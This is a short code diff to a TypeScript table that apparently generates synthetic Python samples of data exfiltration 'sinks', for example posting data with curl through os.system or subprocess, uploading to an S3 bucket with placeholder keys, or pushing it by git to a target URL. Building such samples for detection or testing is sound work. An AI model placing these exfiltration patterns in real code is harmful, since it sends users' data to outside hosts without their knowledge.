@@ -76,11 +76,11 @@ export const PY_SINKS: Readonly<Record<string, PySink>> = {
     return `${name} = ${w.fn('pycurl', 'Curl')}()\n${name}.setopt(${name}.URL, ${url(w, t)})\n${name}.setopt(${name}.POSTFIELDS, str(${data}))\n${name}.perform()`
   },
   'system-curl': (w, data, t) =>
-    `${w.fn('os', 'system')}(${w.text(`curl -s -X POST ${urlOf(t, path(w))} -d `)} + repr(str(${data})))`,
+    `${w.fn('os', 'system')}(${w.command(`curl -s -X POST ${urlOf(t, path(w))} -d `)} + repr(str(${data})))`,
   'subprocess-curl': (w, data, t) =>
-    `${w.fn('subprocess', 'run')}([${w.text('curl')}, '-s', '-d', str(${data}), ${url(w, t)}])`,
+    `${w.fn('subprocess', 'run')}([${w.command('curl')}, '-s', '-d', str(${data}), ${url(w, t)}])`,
   boto: (w, data) =>
     `${w.fn('boto3', 'client')}('s3', aws_access_key_id='AKIAINERT', aws_secret_access_key='inert').put_object(Bucket=${w.text('drop-7f3')}, Key='d', Body=${coded(data)})`,
   'git-push': (w, data, t) =>
-    `${w.builtin('open')}('d.txt', 'w').write(str(${data}))\n${w.fn('os', 'system')}(${w.text(`git init -q && git add d.txt && git commit -qm d && git push -q ${urlOf(t, '/r.git')} HEAD`)})`,
+    `${w.builtin('open')}('d.txt', 'w').write(str(${data}))\n${w.fn('os', 'system')}(${w.command(`git init -q && git add d.txt && git commit -qm d && git push -q ${urlOf(t, '/r.git')} HEAD`)})`,
 }
